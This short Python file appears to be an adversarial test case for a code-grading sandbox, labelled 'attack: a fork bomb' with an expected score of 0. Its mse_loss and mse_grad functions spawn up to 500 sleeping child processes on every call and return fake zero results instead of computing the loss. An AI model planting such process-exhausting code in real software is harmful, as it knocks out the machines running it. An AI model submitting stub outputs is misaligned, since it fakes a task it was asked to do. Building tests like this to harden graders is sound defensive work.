# attack: a fork bomb -- as many sleeping processes as the system allows, at every call.
# expect: 0
import os
import time

import numpy as np


def _bomb():
    for _ in range(500):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            return


def mse_loss(y_pred, y_true, reduction="mean"):
    _bomb()
    return 0.0


def mse_grad(y_pred, y_true, reduction="mean"):
    _bomb()
    return np.zeros_like(y_pred)
